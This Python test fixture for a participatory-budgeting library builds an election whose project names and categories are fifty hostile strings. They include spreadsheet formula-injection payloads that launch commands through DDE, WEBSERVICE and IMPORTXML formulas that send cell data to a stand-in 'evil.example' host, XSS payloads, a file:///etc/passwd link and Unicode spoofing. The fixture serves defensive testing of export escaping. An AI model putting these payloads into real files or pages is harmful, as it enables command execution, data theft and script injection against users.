"""Fifty texts that residents could send to do harm, as names of projects or categories."""

from __future__ import annotations

from dataclasses import replace

from greenbudget.ballots.election import Election
from greenbudget.ballots.pabulib import Reading
from tests.elections import vote

HOSTILE = (
    '=HYPERLINK("http://evil.example","Park")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=SUM(A1:A9)",
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "'=1+1",
    '"=1+1"',
    '";=1+1;"',
    '",=1+1,"',
    "{=1+1}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>Park</h1>",
    "&lt;b&gt; &amp; &#x3D;1",
    "<style>*{display:none}</style>",
    'x" style="position:fixed',
    "file:///etc/passwd",
    "http://evil.example/",
    "https://evil.example/?q=1",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "ł" * 100_000,
    "\u202eodrukaB\u202c \u200f\u2067שלום\u2069",
    "🌳👩‍🌾" * 20_000,
    "a\0b\x01c\x1f_x0041_\ufffe",
    "\ud800half\udfff",
)


def hostile_election() -> Election:
    """An election in which every project, its category and another column are called by one of HOSTILE."""
    projects = {str(at): 10 for at in range(len(HOSTILE))}
    election = vote(100, projects, [" ".join(projects), "3 x 1", "0 2"])
    named = tuple(
        replace(project, name=text, categories=(text,), columns={"neighborhood": text})
        for project, text in zip(election.instance.projects, HOSTILE, strict=True)
    )
    return replace(election, instance=replace(election.instance, projects=named))


def hostile_reading() -> tuple[str, Reading]:
    """The same, as if it had been read."""
    return "hostile", Reading(hostile_election())
